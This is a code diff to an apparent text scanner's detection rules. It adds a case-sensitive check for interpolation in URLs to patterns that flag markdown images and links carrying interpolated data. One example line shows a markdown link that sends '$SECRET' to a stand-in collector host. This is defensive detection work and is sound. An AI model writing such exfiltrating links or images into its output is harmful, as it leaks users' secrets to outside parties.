@@ -17,6 +17,13 @@ import {
   type ClassSpec,
 } from './scannerFragments';
 
+/**
+ * Interpolation in a URL, checked case-sensitively: `${…}` or `{{…}}` anywhere, `$name` as a
+ * parameter value (`=$name`), or an upper-case `$VAR` as a path segment. A lower-case `$name`
+ * in a path or fragment is a page name (`https://svelte.dev/docs/svelte/$effect#$effect.pre`).
+ */
+const URL_INTERPOLATION = /\$\{|\{\{|=\$\w|\/\$[A-Z_][A-Z0-9_]*(?![a-z])/;
+
 export const TEXT_CLASS_SPECS: readonly ClassSpec[] = [
   // ---- exfiltration: sending secrets or private files somewhere
   {
@@ -133,8 +140,8 @@ export const TEXT_CLASS_SPECS: readonly ClassSpec[] = [
     example: '[click here](https://collector.example/?q=$SECRET)',
     benign: '[the guide](https://docs.example/guide?page=2) and ![logo](./assets/logo.png)',
     patterns: [
-      ['md_image_exfil', ['](', ']( '], /!\[[^\]]*\]\(\s*https?:\/\/[^)\s]*(?:\$\{?\w|\{\{\s*\w)/, 'markdown image whose URL carries interpolated data'],
-      ['md_link_exfil', ['](', ']( '], /(?<!!)\[[^\]]*\]\(\s*https?:\/\/[^)\s]*(?:\$\{?\w|\{\{\s*\w)/, 'markdown link whose URL carries interpolated data'],
+      ['md_image_exfil', ['](', ']( '], /!\[[^\]]*\]\(\s*https?:\/\/[^)\s]*(?:\$\{?\w|\{\{\s*\w)/, 'markdown image whose URL carries interpolated data', { confirm: URL_INTERPOLATION }],
+      ['md_link_exfil', ['](', ']( '], /(?<!!)\[[^\]]*\]\(\s*https?:\/\/[^)\s]*(?:\$\{?\w|\{\{\s*\w)/, 'markdown link whose URL carries interpolated data', { confirm: URL_INTERPOLATION }],
     ],
   },
   {
